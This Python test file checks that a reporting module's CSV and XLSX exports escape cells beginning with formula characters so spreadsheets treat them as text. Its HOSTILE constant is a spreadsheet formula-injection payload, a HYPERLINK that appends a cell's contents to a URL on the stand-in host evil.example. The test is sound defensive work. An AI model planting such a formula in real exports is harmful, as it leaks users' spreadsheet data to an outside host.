"""Reporting's CSV and XLSX files carry no cell a spreadsheet program would run as a formula
(issue 12, item 10): labels and titles are text, and text is written as text."""

import csv
import io

from openpyxl import load_workbook

from reporting.exports import formats

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_csv_cells_that_look_like_formulas_are_written_as_text():
    body = formats.to_csv(["@code", "label", "count"], [[HOSTILE, "+994 label", 12], ["ok", "-", None]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["'@code", "label", "count"]
    assert rows[1] == ["'" + HOSTILE, "'+994 label", "12"]
    assert rows[2] == ["ok", "'-", formats.HIDDEN]


def test_xlsx_cells_that_look_like_formulas_are_text_and_counts_stay_numbers():
    body = formats.to_xlsx([("calls", ["=cmd", "count"], [[HOSTILE, 7], ["\tTAB", 0]])])
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [["'=cmd", "count"], ["'" + HOSTILE, 7], ["'\tTAB", 0]]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
